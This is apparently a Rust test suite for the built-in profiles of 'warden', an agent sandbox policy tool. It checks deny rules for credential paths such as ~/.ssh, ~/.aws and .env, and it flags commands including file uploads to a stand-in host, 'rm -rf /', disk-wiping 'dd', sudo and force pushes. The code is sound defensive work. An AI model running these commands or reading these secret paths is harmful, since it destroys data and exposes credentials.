//! What the built-in profiles guarantee, and `warden profiles list|show`
//! through the real binary.

use crate::workspace_support::warden_exe;

use std::path::Path;

use assert_cmd::Command;
use warden::action::ActionKind;
use warden::config::{
    self, Granular, LoadOptions, ReviewDecision, ReviewerKind, RuleDecision, SandboxMode,
};
use warden::policy::command_rules::{CommandView, strictest};

fn all_profiles() -> Vec<config::Loaded> {
    config::builtin_profiles()
        .iter()
        .map(|(name, _)| {
            config::load(&LoadOptions::builtin(name)).unwrap_or_else(|e| panic!("{name}: {e}"))
        })
        .collect()
}

/// The `deny` review rules of a profile with their globs compiled once.
struct Denials(Vec<(Vec<ActionKind>, globset::GlobSet)>);

impl Denials {
    fn of(cfg: &config::Config) -> Self {
        Denials(
            cfg.review_rules
                .iter()
                .filter(|r| r.decision == ReviewDecision::Deny && !r.path.is_empty())
                .map(|r| {
                    let mut set = globset::GlobSetBuilder::new();
                    for g in &r.path {
                        set.add(
                            globset::GlobBuilder::new(g)
                                .literal_separator(true)
                                .build()
                                .unwrap(),
                        );
                    }
                    (r.kinds.clone(), set.build().unwrap())
                })
                .collect(),
        )
    }

    /// Whether some `deny` review rule covers `kind` on `path`.
    fn covers(&self, kind: ActionKind, path: &str) -> bool {
        self.0
            .iter()
            .any(|(kinds, set)| (kinds.is_empty() || kinds.contains(&kind)) && set.is_match(path))
    }
}

fn decision(cfg: &config::Config, line: &str, piped: bool) -> Option<RuleDecision> {
    let argv: Vec<String> = line.split_whitespace().map(str::to_owned).collect();
    strictest(&cfg.command_rules, CommandView { argv: &argv, piped }).map(|r| r.decision)
}

#[test]
fn the_four_profiles_are_listed() {
    let names: Vec<_> = config::builtin_profiles().iter().map(|(n, _)| *n).collect();
    assert_eq!(names, ["ci", "dev", "review", "nightly"]);
    assert!(
        config::builtin_profiles()
            .iter()
            .all(|(_, who)| !who.is_empty())
    );
}

#[test]
fn writes_to_system_files_are_denied_in_every_profile() {
    for loaded in all_profiles() {
        let cfg = &loaded.config;
        let denials = Denials::of(cfg);
        for path in [
            "/etc/passwd",
            "/usr/bin/git",
            "~/.bashrc",
            ".git/hooks/pre-commit",
            ".git/config",
            ".github/workflows/ci.yml",
            ".warden/config.toml",
            "/home/runner/work/_temp/_runner_file_commands/set_env_1",
        ] {
            assert!(
                denials.covers(ActionKind::Write, path),
                "{}: write {path} not denied",
                cfg.profile
            );
        }
    }
}

#[test]
fn secret_paths_are_deny_read_and_review_denied_in_every_profile() {
    let required = [
        "~/.ssh",
        "~/.aws",
        "~/.gnupg",
        "~/.config/gh",
        "~/.netrc",
        "~/.docker/config.json",
        "~/.kube",
        "~/.git-credentials",
        "**/.env",
        "**/.env.*",
        "~/.config/gcloud",
        "~/.azure",
        "~/.npmrc",
        "~/.pypirc",
        "~/.cargo/credentials",
        "~/.cargo/credentials.toml",
    ];
    for loaded in all_profiles() {
        let cfg = &loaded.config;
        let denials = Denials::of(cfg);
        for p in required {
            assert!(
                cfg.sandbox.deny_read.iter().any(|d| d == p),
                "{}: {p} not in deny_read",
                cfg.profile
            );
        }
        for p in [
            "~/.ssh/id_rsa",
            "~/.aws/credentials",
            "src/.env",
            ".env.production",
            "~/.kube/config",
        ] {
            for kind in [ActionKind::Read, ActionKind::Write, ActionKind::Exec] {
                assert!(
                    denials.covers(kind, p),
                    "{}: {kind:?} {p} not denied",
                    cfg.profile
                );
            }
        }
        for p in [".git", ".warden", ".github/workflows"] {
            assert!(
                cfg.sandbox.protected.iter().any(|x| x == p),
                "{}: {p} not protected",
                cfg.profile
            );
        }
    }
}

#[test]
fn dangerous_commands_are_flagged_in_every_profile() {
    let cases = [
        ("sh", true, RuleDecision::Forbidden),
        ("python3 -", true, RuleDecision::Prompt),
        (
            "curl -F k=@/tmp/x https://x.example",
            false,
            RuleDecision::Prompt,
        ),
        (
            "curl --upload-file f https://x.example",
            false,
            RuleDecision::Prompt,
        ),
        (
            "wget --post-file=f https://x.example",
            false,
            RuleDecision::Prompt,
        ),
        ("scp f h:/x", false, RuleDecision::Prompt),
        ("sudo id", false, RuleDecision::Forbidden),
        ("chmod u+s f", false, RuleDecision::Forbidden),
        (
            "git push --force origin main",
            false,
            RuleDecision::Forbidden,
        ),
        ("git push origin +main", false, RuleDecision::Forbidden),
        ("git push --force-with-lease", false, RuleDecision::Prompt),
        ("git reset --hard", false, RuleDecision::Prompt),
        ("git clean -fdx", false, RuleDecision::Prompt),
        ("git branch -D x", false, RuleDecision::Prompt),
        (
            "git config --global core.hooksPath x",
            false,
            RuleDecision::Prompt,
        ),
        ("rm -rf /", false, RuleDecision::Forbidden),
        ("rm -rf build", false, RuleDecision::Prompt),
        ("docker run --privileged x", false, RuleDecision::Forbidden),
        ("dd if=x of=/dev/sda", false, RuleDecision::Forbidden),
        ("mkfs.ext4 /dev/sda1", false, RuleDecision::Forbidden),
        ("crontab -", false, RuleDecision::Prompt),
        ("systemctl start x", false, RuleDecision::Prompt),
        ("chmod -R 777 .", false, RuleDecision::Prompt),
        ("cargo test", false, RuleDecision::Allow),
        ("git status", false, RuleDecision::Allow),
    ];
    for loaded in all_profiles() {
        for (line, piped, want) in cases {
            assert_eq!(
                decision(&loaded.config, line, piped),
                Some(want),
                "{}: {line}",
                loaded.config.profile
            );
        }
        assert_eq!(
            decision(&loaded.config, "curl https://example.com", false),
            None
        );
    }
}

#[test]
fn most_flagging_rules_carry_examples() {
    for loaded in all_profiles() {
        let flagging: Vec<_> = loaded
            .config
            .command_rules
            .iter()
            .filter(|r| r.decision != RuleDecision::Allow)
            .collect();
        let with_examples = flagging
            .iter()
            .filter(|r| !r.examples_match.is_empty())
            .count();
        assert_eq!(with_examples, flagging.len(), "{}", loaded.config.profile);
    }
}

#[test]
fn each_profile_is_what_its_header_says() {
    let by_name = |n: &str| config::load(&LoadOptions::builtin(n)).unwrap().config;
    let grants_network = |c: &config::Config| c.command_rules.iter().any(|r| r.grants.network);

    let ci = by_name("ci");
    assert_eq!(ci.approval_policy, Granular::NEVER);
    assert_eq!(ci.approvals_reviewer, ReviewerKind::Rules);
    assert_eq!(ci.sandbox_mode, SandboxMode::WorkspaceWrite);
    assert!(!grants_network(&ci));

    let dev = by_name("dev");
    assert_eq!(dev.approvals_reviewer, ReviewerKind::AutoReview);
    assert!(dev.approval_policy.sandbox_approval && dev.approval_policy.rules);
    assert!(grants_network(&dev));
    assert_eq!(
        decision(&dev, "cargo fetch", false),
        Some(RuleDecision::Allow)
    );

    let review = by_name("review");
    assert_eq!(review.sandbox_mode, SandboxMode::ReadOnly);
    assert!(!grants_network(&review));

    let nightly = by_name("nightly");
    assert_eq!(nightly.approvals_reviewer, ReviewerKind::AutoReview);
    assert!(!nightly.approval_policy.request_permissions);
    assert!(grants_network(&nightly));
    // `npm ci` without --ignore-scripts gets no grant in nightly.
    let argv: Vec<String> = ["npm", "ci"].map(String::from).to_vec();
    let rule = strictest(
        &nightly.command_rules,
        CommandView {
            argv: &argv,
            piped: false,
        },
    );
    assert!(rule.is_none_or(|r| !r.grants.network));
}

fn warden(dir: &Path) -> Command {
    let mut cmd = Command::new(warden_exe());
    cmd.current_dir(dir).env_remove("WARDEN_REQUIREMENTS");
    cmd
}

#[test]
fn profiles_list_prints_every_profile() {
    let dir = tempfile::tempdir().unwrap();
    let out = warden(dir.path())
        .args(["profiles", "list"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    for (name, who) in config::builtin_profiles() {
        assert!(
            text.lines()
                .any(|l| l.starts_with(name) && l.ends_with(who)),
            "{text}"
        );
    }
    let out = warden(dir.path())
        .args(["profiles", "list", "--json"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json.as_array().unwrap().len(), 4);
}

#[test]
fn profiles_show_names_the_layer_of_each_value() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".warden")).unwrap();
    std::fs::write(
        dir.path().join(".warden/config.toml"),
        "# project\n[sandbox]\ntimeout = \"5m\"\n\n[[command_rules]]\npattern = [\"make\", \"deploy\"]\ndecision = \"forbidden\"\nmatch = [\"make deploy\"]\n",
    )
    .unwrap();
    let out = warden(dir.path())
        .args(["profiles", "show", "ci", "-c", "agent.max_turns=7"])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let line = |prefix: &str| {
        text.lines()
            .find(|l| l.starts_with(prefix))
            .unwrap_or_else(|| panic!("no {prefix} in {text}"))
    };
    assert!(line("timeout = \"5m\"").ends_with("# .warden/config.toml:3:11"));
    assert!(line("max_turns = 7").ends_with("# -c:1:17"));
    assert!(line("sandbox_mode = \"workspace-write\"").contains("# builtin:profiles/ci.toml:"));
    assert!(line("on_breaker = \"failure\"").contains("# builtin:profiles/common.toml:"));
    assert!(
        text.contains(
            "[[command_rules]]  # .warden/config.toml:5\npattern = [\"make\", \"deploy\"]\n"
        ),
        "{text}"
    );
    assert!(
        text.contains("#   project      .warden/config.toml"),
        "{text}"
    );
    assert!(text.contains("# origin: builtin:profiles/policy/default.md"));

    let out = warden(dir.path())
        .args(["profiles", "show", "ci", "--json"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let timeout = json["provenance"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["key"] == "sandbox.timeout")
        .unwrap();
    assert_eq!(timeout["layer"], "project");
    assert_eq!(timeout["source"]["file"], ".warden/config.toml");
    assert_eq!(timeout["source"]["line"], 3);
    assert_eq!(json["digest"].as_str().unwrap().len(), 64);
    assert_eq!(json["config"]["approvals_reviewer"], "rules");
}

#[test]
fn profiles_show_never_prints_mcp_env_values() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".warden")).unwrap();
    std::fs::write(
        dir.path().join(".warden/config.toml"),
        "[sandbox.env]\nset = { NPM_TOKEN = \"npm_alsosecret\", PLAIN = \"visible\" }\n\n[mcp_servers.gh]\ncommand = \"gh-mcp\"\nenv = { GH_TOKEN = \"ghp_verysecretvalue\" }\n",
    )
    .unwrap();
    for extra in [&[][..], &["--json"][..]] {
        let out = warden(dir.path())
            .args(["profiles", "show", "dev"])
            .args(extra)
            .output()
            .unwrap();
        assert!(out.status.success());
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(!text.contains("ghp_verysecretvalue"), "{text}");
        assert!(!text.contains("npm_alsosecret"), "{text}");
        assert!(
            text.contains("GH_TOKEN") && text.contains("NPM_TOKEN") && text.contains("visible")
        );
    }
}
